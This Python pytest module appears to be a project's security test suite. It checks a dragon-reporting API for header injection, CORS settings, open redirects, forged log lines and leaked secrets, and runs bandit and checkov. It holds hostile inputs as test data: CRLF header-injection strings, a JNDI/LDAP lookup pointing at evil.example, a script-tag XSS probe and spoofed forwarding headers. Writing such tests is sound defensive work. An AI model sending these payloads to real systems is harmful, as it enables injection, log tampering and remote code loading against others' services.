"""What an attacker can see and write: headers, CORS, reflections and logs; and what the static checkers find."""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import requests

from devstack.settings import REGION
from operations import PROJECT
from operations.deploy import package
from operations.deploy.target import Target
from operations.stages import STAGES
from tests.e2e import written
from tests.e2e.running import TARGETS, Api, Devstack
from tests.e2e.waiting import until
from tests.lambda_events import claims, proxy_event
from tests.proof import functions, logs
from tests.proof.policies import policy, without
from tests.proof.report import Report, Scale, only_at_full_scale
from tests.proof.roles import under_policy
from tests.proof.tour import PAGES, Tour
from tests.samples import dragon_members

SUITE = "9 attack surface"
CONFIG = json.loads((PROJECT / ".chalice" / "config.json").read_text(encoding="utf-8"))
REQUEST_ID = re.compile(r"[A-Za-z0-9._-]{8,64}")
EVIL = "x-evil-header"
needs_full_scale = only_at_full_scale("packages prod")
FORGED = '{"level":"INFO","message":"forged"}'
HOSTILE = (
    f"abcdefgh\r\n{EVIL}: 1",
    f"abcdefgh\n{EVIL}: 1",
    f"abcdefgh\n{FORGED}\n",
    FORGED,
    "\x1b[2J\x1b[31mabcdefgh",
    "\u2028\u0085abcdefgh",
    f"%0d%0a{EVIL}:%201",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "a" * 4_000,
)
WRITERS = tuple(f"/aws/lambda/{name}" for name in (functions.API, functions.ADD_DRAGON, functions.STORE_MESSAGES))
# The lines that the local server writes itself (devstack/server), besides the app's, which are JSON.
SERVERS_OWN = re.compile(
    r'\d\d/[A-Z][a-z]{2}/\d{4} \d\d:\d\d:\d\d "[ -~]*" \d{3}|token refused: [ -~]+|Invalid HTTP request received\.'
)


def raw(api: Api, request: bytes) -> tuple[int, list[str], bytes]:
    """Send a request that ends its connection, byte for byte; return status, header lines and body of the answer."""
    with api.socket() as client:
        client.sendall(request)
        answer = b""
        while read := client.recv(65536):
            answer += read
    head, _, body = answer.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    return int(lines[0].split(" ")[1]), lines[1:], body


@pytest.fixture(scope="module")
def tours(proving_apis: dict[str, Api]) -> dict[str, Tour]:
    """Everything that the service can do, done once on each target."""
    with ThreadPoolExecutor(len(proving_apis)) as pool:
        return dict(zip(proving_apis, pool.map(lambda api: Tour(api).everything(), proving_apis.values()), strict=True))


class TestAnswers:
    def test_every_answer_has_the_headers_it_must_have_and_no_others(
        self, report: Report, tours: dict[str, Tour], proving_apis: dict[str, Api]
    ) -> None:
        looked_at = 0
        for target, tour in tours.items():
            for name, answer in {**tour.answers, **dict(_refusals(proving_apis[target]))}.items():
                looked_at += 1
                where = f"{target} {name}: {answer.status_code} {dict(answer.headers)}"
                assert answer.headers["X-Content-Type-Options"] == "nosniff", where
                assert REQUEST_ID.fullmatch(answer.headers["X-Request-Id"]), where
                assert answer.headers["Access-Control-Allow-Origin"] == proving_apis[target].allow_origin, where
                assert "Access-Control-Allow-Credentials" not in answer.headers, where
                assert "Set-Cookie" not in answer.headers, where
                assert not re.search(r"(?i)python|chalice|\d+\.\d+", answer.headers.get("Server", "")), where
                assert "X-Powered-By" not in answer.headers, where
                assert not re.search(r"Traceback|chalicelib|botocore|arn:aws:(?!states)", answer.text), where
                if answer.headers.get("Content-Type", "").startswith("text/html"):
                    policy_text = answer.headers["Content-Security-Policy"]
                    assert "default-src 'none'" in policy_text, where
                    assert "unsafe" not in policy_text, where
                    assert "frame-ancestors 'none'" in policy_text, where
                    assert answer.headers["Referrer-Policy"] == "no-referrer", where
        report.add(SUITE, "headers of every answer", tried=looked_at, survived=looked_at)

    @pytest.mark.devstack_only("it looks at the app in this folder")
    @pytest.mark.parametrize("stage", ["dev", "prod"])
    def test_a_stage_allows_its_own_origin_whoever_asks(self, report: Report, stage: str) -> None:
        origin = STAGES[stage].allow_origin
        events = [
            proxy_event("GET", reference, route, headers={"Origin": "https://evil.example"}, token_claims=token)
            for reference, route, token in (
                ("/health", "/health", None),
                ("/openapi.json", "/openapi.json", None),
                ("/message/1", "/message/{message_id}", claims()),
                ("/nowhere", "/nowhere", None),
            )
        ]
        for answer in _answers_of_stage(stage, events):
            headers = {name.lower(): value for name, value in answer["headers"].items()}
            assert headers["access-control-allow-origin"] == origin
            assert "access-control-allow-credentials" not in headers
        assert (origin == "*") is (stage == "dev"), "prod answers one origin, not every origin"
        report.add(SUITE, f"CORS of {stage}: {origin}", tried=len(events), survived=len(events))

    def test_no_input_comes_back_in_a_header(self, report: Report, proving_apis: dict[str, Api]) -> None:
        tried = 0
        for target, api in proving_apis.items():
            for text, request in ((hostile, each) for hostile in HOSTILE for each in _requests_with(hostile, api)):
                tried += 1
                status, headers, body = raw(api, request)
                where = (target, request, status, headers)
                assert status < 500, where
                assert not [line for line in headers if line.lower().startswith(EVIL)], where
                assert not [line for line in headers if _shows(line, text)], where
                request_ids = _request_ids(headers)
                assert len(request_ids) == 1 or _is_https_own(target, status, body), where
                assert all(map(REQUEST_ID.fullmatch, request_ids)), where
            for text in HOSTILE[2:]:
                tried += 1
                answer = api.get("/dragons", params={"limit": 1, "family": text, text[:50]: "1"})
                assert answer.status_code == 400, (target, text)
                assert EVIL not in str(answer.headers).lower()
                answer.json()
        report.add(SUITE, "no input in headers", tried=tried, survived=tried)

    @pytest.mark.parametrize("target", TARGETS)
    def test_links_and_locations_lead_back_to_this_service(
        self, report: Report, rng: Random, target: str, proving_apis: dict[str, Api]
    ) -> None:
        """This includes requests that name another host, and dragons whose names look like parts of URLs."""
        api = proving_apis[target]
        elsewhere = {
            "X-Forwarded-Host": "evil.example",
            "X-Forwarded-Proto": "javascript",
            "X-Forwarded-Prefix": "//evil.example",
            "X-Original-URL": "//evil.example/",
            "Forwarded": "host=evil.example",
        }
        places = []
        for name in ("-- evil.example '", "D'.. " + uuid.uuid4().hex[:8], "Ünïcödé " + str(rng.random())):
            tour = Tour(api, {**Tour(api).dragon, "dragon_name_str": name})
            added = tour.post_dragon(headers={**elsewhere, "Prefer": "wait=10"})
            assert added.status_code in (201, 202, 409), added.text
            places.append(added.headers["Location"])
        page = api.get("/dragons?limit=1&", headers=elsewhere)
        places += re.findall(r'<([^>]*)>; rel="(?:next|first)"', page.headers["Link"])
        places.append(api.get("/docs/", None, headers=elsewhere, allow_redirects=False).headers.get("Location", "/"))

        for place in places:
            assert re.fullmatch(r"(/(?!/)|\.\./)[A-Za-z0-9/_.~%?=&'()*!+-]+|/", place), place
            assert "evil.example" not in place.replace("--%20evil.example%20%27", "")
        report.add(SUITE, f"links lead back ({target})", tried=len(places), survived=len(places))

    @pytest.mark.devstack_only("the gateway looks for its stage in the path, which the local server has not")
    @pytest.mark.parametrize("host", ["//evil.example", "/\\evil.example", "http://evil.example", "/..//evil.example"])
    def test_a_path_that_looks_like_a_host_is_not_linked_to(
        self, report: Report, host: str, proving_apis: dict[str, Api]
    ) -> None:
        token = proving_apis["local"].token("operator")
        head = [f"GET {host}/dragons?limit=1 HTTP/1.1", "Host: x", f"Authorization: {token}", "Connection: close"]
        status, headers, _ = raw(proving_apis["local"], "\r\n".join([*head, "", ""]).encode())
        assert status < 500
        assert not [line for line in headers if "evil" in line]
        report.add(SUITE, f"no link to {host}", tried=1, survived=1)


class TestLogs:
    def test_no_input_can_forge_a_log_line(
        self, report: Report, scale: Scale, rng: Random, proving_ground: Devstack, proving_apis: dict[str, Api]
    ) -> None:
        began, logged = time.time(), len(_api_log(proving_ground))
        texts = rng.sample(HOSTILE, scale.of(5, len(HOSTILE)))
        sent = 0
        of_function = set()
        for text in texts:
            for target, api in proving_apis.items():
                for request in _requests_with(text, api):
                    _, headers, _ = raw(api, request)
                    sent += 1
                    of_function |= set(_request_ids(headers)) if target == "gateway" else set()
            sent += _bypassing_the_api(proving_ground, text)
        marker = f"marker-{uuid.uuid4()}"
        _queue(proving_ground, "{", marker)
        until(lambda: logs.mentions(proving_ground, functions.STORE_MESSAGES, marker), 120)

        lines = [line for _, line in written.function_lines(proving_ground, began)]
        broken = [line for line in lines if not logs.is_well_formed(line)]
        of_server = _api_log(proving_ground)[logged:].split("\n")[:-1]
        broken += [line for line in of_server if not (SERVERS_OWN.fullmatch(line) or logs.is_well_formed(line))]
        forged = [line for line in lines + of_server if _is_forged(line)]
        devstack_texts = written.devstack_text(proving_ground)
        broken += [line for text in devstack_texts.values() for line in text.split("\n") if logs.has_controls(line)]
        reached = of_function & {_correlation_id(line) for line in lines}
        lost = len(broken) + len(forged)
        note = (
            f"{len(lines)} lines of functions and {len(of_server)} of the local server looked at; "
            f"{len(reached)} requests reached the deployed API"
        )
        report.add(SUITE, "no forged log line", tried=sent, survived=sent - lost, lost=lost, note=note)
        assert len(reached) >= 2 * len(texts), "the gateway lets at least both query strings through"
        assert len(of_server) > len(texts)
        print(*sorted(set(broken)), sep="\n")
        assert not broken
        assert not forged

    @pytest.mark.looks_back
    def test_no_phone_number_token_or_order_is_logged_or_published(
        self,
        report: Report,
        scale: Scale,
        rng: Random,
        proving_ground: Devstack,
        proving_apis: dict[str, Api],
        all_news: logs.News,
        tmp_path_factory: pytest.TempPathFactory,
    ) -> None:
        """The test searches everything that the run has written, including its own reports with phone numbers."""
        phones, orders, request_id = [], [], f"secrets-{uuid.uuid4()}"
        tours = [Tour(api) for api in proving_apis.values()]
        for confirm in (True, False, True):  # added, then refused twice
            places = []
            for tour in tours:
                phones.append(f"+1555{rng.randrange(10**7):07}")
                tour.dragon |= {"reportingPhoneNumber": phones[-1], "confirmationRequired": confirm}
                places.append(tour.post_dragon(headers={"X-Request-Id": request_id}).headers["Location"])
            for place in places:
                all_news.about(place.rpartition("/")[2])
        for tour in tours:
            orders.append(f"secret-order-{rng.randrange(10**12)}")
            assert tour.post_message(request_id, note=json.dumps(orders[-1])).status_code == 202
            # A conflict, if the first is stored already.
            changed = tour.post_message(request_id, note=json.dumps(orders[-1] + " changed"))
            assert changed.status_code in (202, 409)
        for tour in tours:
            until(lambda tour=tour: tour.get_message().status_code == 200)
        if scale.name == "full":
            phones.append(_a_report_that_fails(rng, proving_ground, proving_apis["gateway"], all_news))
        texted = proving_apis["local"].http.get(
            f"{proving_ground.running['aws_url']}/_ministack/sns/sms-messages", timeout=10
        )
        secrets = {
            "phone": [phone.lstrip("+") for phone in phones],
            "order": orders,
            "token": [token.rpartition(".")[2] for api in proving_apis.values() for token in api._tokens.values()],
            "password": list(json.loads((proving_ground.state / "users.json").read_text(encoding="utf-8")).values()),
        }
        texts = written.everything(proving_ground, tmp_path_factory.getbasetemp())
        texts["topic"] = "\n".join(all_news.told)

        found = [
            (kind, place)
            for kind, values in secrets.items()
            for value in values
            for place, text in texts.items()
            if value in text
        ]
        found += written.secrets_in(texts, secrets["password"])
        tried = sum(map(len, secrets.values())) * len(texts)
        report.add(SUITE, "no secret is written down", tried=tried, survived=tried - len(found), lost=len(found))
        assert phones[0] in texted.text, "the numbers were used"
        assert {name for name, text in texts.items() if request_id in text} >= {"api.log", "topic", *WRITERS}
        assert not found


@pytest.fixture(scope="module")
def packaged(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The template of prod's app, made as a deployment makes it (after any other packaging of this project)."""
    target = Target("prod", tmp_path_factory.mktemp("packaged"), "", os.environ | {"AWS_DEFAULT_REGION": REGION})
    pool = f"arn:aws:cognito-idp:{REGION}:123456789012:userpool/{REGION}_example"
    return package.package_app(target, {"UserPoolArn": pool})


class TestStaticChecks:
    def test_bandit_finds_nothing_unexplained(self, report: Report) -> None:
        code = ["app.py", "chalicelib", "operations", "devstack"]
        checked = _run(sys.executable, "-m", "bandit", "--quiet", "--configfile", "bandit.yaml", "--recursive", *code)
        report.add(SUITE, "bandit", tried=1, survived=int(checked.returncode == 0))
        assert checked.returncode == 0, checked.stdout

    @needs_full_scale
    def test_a_preflight_in_prod_allows_only_prods_origin(self, report: Report, packaged: Path) -> None:
        """The gateway answers it from the template. Its own error answers get the same origin from a parameter."""
        origin = STAGES["prod"].allow_origin
        paths = json.loads(packaged.read_text(encoding="utf-8"))["Resources"]["RestAPI"]["Properties"]["DefinitionBody"]
        for path, methods in paths["paths"].items():
            integration = methods["options"]["x-amazon-apigateway-integration"]
            headers = integration["responses"]["default"]["responseParameters"]
            assert headers["method.response.header.Access-Control-Allow-Origin"] == f"'{origin}'", path
            assert not [name for name in headers if "Credentials" in name], path
        report.add(SUITE, "preflights of prod", tried=len(paths["paths"]), survived=len(paths["paths"]))
        assert paths["paths"]

    @needs_full_scale
    def test_checkov_finds_nothing_unexplained_in_what_is_deployed(self, report: Report, packaged: Path) -> None:
        checkov = PROJECT / ".local" / "checkov" / "bin" / "python"
        assert checkov.exists(), "make prove installs it; .checkov.yaml says how to do so by hand"
        for template in (PROJECT / "infrastructure" / "resources.yaml", packaged):
            command = (str(checkov), "-m", "checkov.main", "--config-file", ".checkov.yaml", "--file", str(template))
            checked = _run(*command)
            assert checked.returncode == 0, checked.stdout
            assert re.search(r"Passed checks: [1-9]", checked.stdout), checked.stdout
        report.add(SUITE, "checkov on both templates", tried=2, survived=2)


def _refusals(api: Api) -> Iterator[tuple[str, requests.Response]]:
    """Yield answers to requests that are refused in every way, and 304s."""
    yield "no token", api.get("/dragons", None)
    yield "forged token", api.get("/dragons", None, headers={"Authorization": "Bearer a.b.c"})
    yield "unknown route", api.get("/nowhere")
    yield "unknown method", api.request("PATCH", "/dragons")
    yield "unknown parameter", api.get("/dragons?x=1")
    yield "no JSON", api.post("/dragons", data=b"{", headers={"Content-Type": "application/json"})
    yield "wrong type", api.post("/dragons", data=b"{}", headers={"Content-Type": "text/plain"})
    yield "too large", api.post("/post-message", data=b"x" * 300_000, headers={"Content-Type": "application/json"})
    yield "not stored", api.get(f"/message/{uuid.uuid4()}", "amber")
    yield "no such file", api.get("/static/nothing.js", None)
    for path in PAGES:
        seen = api.get(path, None).headers.get("ETag", '"none"')
        yield f"not changed: {path}", api.get(path, None, headers={"If-None-Match": seen})


def _requests_with(text: str, api: Api) -> Iterator[bytes]:
    """Yield requests for a target, with a hostile text in each place where a client can put text."""
    base, encoded, token = urlsplit(api.base_url).path, quote(text, safe=""), api.token("operator")
    end = b"\r\nHost: x\r\nConnection: close\r\n"
    folded = text.encode().replace(b"\r\n", b"\r\n ").replace(b"\n", b"\r\n ") if "\n" in text else text.encode()
    bearer = f"Authorization: Bearer {token}\r\n\r\n".encode()
    yield f"GET {base}/health HTTP/1.1".encode() + end + b"X-Request-Id: " + folded + b"\r\n\r\n"
    yield f"GET {base}/dragons/{encoded} HTTP/1.1".encode() + end + bearer
    yield f"GET {base}/dragons?limit=1&family={encoded} HTTP/1.1".encode() + end + bearer
    yield f"GET {base}/dragons?{encoded}=1 HTTP/1.1".encode() + end + bearer
    yield f"GET {base}/{encoded} HTTP/1.1".encode() + end + b"\r\n"
    yield f"GET {base}/submissions/{encoded} HTTP/1.1".encode() + end + bearer
    in_line = re.sub(rb"[\r\n ]", b"", text.encode())
    yield f"GET {base}/health".encode() + in_line + b" HTTP/1.1" + end + b"\r\n"
    header = base64.urlsafe_b64encode(json.dumps({"alg": "RS256", "kid": text}).encode()).rstrip(b"=")
    yield f"GET {base}/dragons HTTP/1.1".encode() + end + b"Authorization: Bearer " + header + b".e30.AAAA\r\n\r\n"


def _bypassing_the_api(devstack: Devstack, text: str) -> int:
    """Send a hostile text to the queue and the workflow, bypassing the API, as a user of the account could."""
    _queue(devstack, json.dumps({"metadata": text}), text)
    dragon = dragon_members(text)
    submission = uuid.uuid4().hex
    told = {
        "submission_id": submission + text,
        "dragon": dragon,
        "correlation_id": text,
        "reporter": {},
        "requested_by": text,
        "confirmation_required": False,
    }
    devstack.client("stepfunctions").start_execution(
        stateMachineArn=devstack.running["outputs"]["DragonWorkflowArn"], name=submission, input=json.dumps(told)
    )
    known = json.loads((PROJECT / "infrastructure" / "dragons.json").read_text(encoding="utf-8"))[0]
    devstack.client("lambda").invoke(FunctionName=functions.ADD_DRAGON, Payload=json.dumps({**told, "dragon": known}))
    return 3


def _queue(devstack: Devstack, body: str, correlation_id: str) -> None:
    allowed = re.sub("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd]", "?", correlation_id)
    devstack.client("sqs").send_message(
        QueueUrl=devstack.running["outputs"]["MessageQueueUrl"],
        MessageBody=body,
        MessageAttributes={"correlation_id": {"DataType": "String", "StringValue": allowed}},
    )


def _shows(header: str, text: str) -> bool:
    """Return True if a header's value repeats a text in any form. A well-formed request id may come back."""
    name, _, value = header.partition(": ")
    forms = (text, text.strip(), quote(text, safe=""), re.sub(r"\s+", " ", text))
    return name.lower() != "x-request-id" and any(form in value for form in forms)


def _api_log(devstack: Devstack) -> str:
    return (devstack.state / "api.log").read_text(encoding="utf-8", errors="replace")


def _request_ids(headers: list[str]) -> list[str]:
    return [line.partition(": ")[2] for line in headers if line.startswith("X-Request-Id: ")]


def _is_https_own(target: str, status: int, body: bytes) -> bool:
    """Tell whether an HTTP library has refused a request as malformed, before any gateway saw it."""
    return status == 400 and body == {"gateway": b"", "local": b"Invalid HTTP request received."}[target]


def _correlation_id(line: str) -> str | None:
    try:
        return str(json.loads(line).get("correlation_id"))
    except (ValueError, AttributeError):
        return None


def _is_forged(line: str) -> bool:
    try:
        return bool(json.loads(line).get("message") == "forged")
    except (ValueError, AttributeError):
        return False


def _a_report_that_fails(rng: Random, devstack: Devstack, api: Api, news: logs.News) -> str:
    """Report a dragon that cannot be added, which logs exceptions; return its reporter's number."""
    tour, phone = Tour(api), f"+1555{rng.randrange(10**7):07}"
    tour.dragon |= {"reportingPhoneNumber": phone, "confirmationRequired": True}
    with under_policy(devstack, "add_dragon", without(policy("add_dragon", "local"), "s3:PutObject")):
        news.about(tour.post_dragon().headers["Location"].rpartition("/")[2])
    return phone


def _answers_of_stage(stage: str, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Return the app's answers as in a stage, from a process with that stage's environment."""
    settings = {**CONFIG["environment_variables"], **CONFIG["stages"][stage]["environment_variables"]}
    program = (
        "import json, sys, app\n"
        "answers = [app.app(event, None) for event in json.load(sys.stdin)]\n"
        "print('\\n' + json.dumps(answers))"
    )
    ran = subprocess.run(
        [sys.executable, "-c", program],
        input=json.dumps(events),
        env={**os.environ, **settings, "AWS_DEFAULT_REGION": REGION, "AWS_ENDPOINT_URL": "http://127.0.0.1:1"},
        cwd=PROJECT,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    answers: list[dict[str, Any]] = json.loads(ran.stdout.splitlines()[-1])
    return answers


def _run(*command: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, cwd=PROJECT, capture_output=True, text=True, check=False, timeout=300)
